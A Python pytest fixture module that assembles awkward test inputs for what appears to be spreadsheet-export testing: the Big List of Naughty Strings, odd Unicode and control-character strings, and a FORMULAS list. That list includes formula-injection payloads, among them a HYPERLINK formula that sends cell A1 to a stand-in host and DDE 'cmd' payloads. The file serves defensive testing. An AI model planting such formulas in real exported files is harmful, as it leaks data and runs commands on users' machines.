import json
from pathlib import Path

import pytest

NAUGHTY_FILE = Path(__file__).parents[2] / "data" / "blns" / "blns.json"
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://example.invalid?leak="&A1,"Klikk her")',
    "=cmd|' /C calc'!A1",
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A1",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    "＝1+1",
]
ORDINARY = [
    "Blåbærsyltetøy på Ærøy",
    "🛝👩‍👩‍👧‍👦 huske",
    "أحب هذا المكان",
    'to\nlinjer; med "anførsel"',
    "slutter\x00her\x01ikke",
    "  mellomrom foran og bak  ",
    "_x0041_",
    "<b>&amp;</b>",
    "halv \ud83d",
]


@pytest.fixture(scope="session")
def naughty() -> list[str]:
    """Texts that have broken programs: real, hostile and odd."""
    return [*json.loads(NAUGHTY_FILE.read_text("utf-8")), *FORMULAS, *ORDINARY]
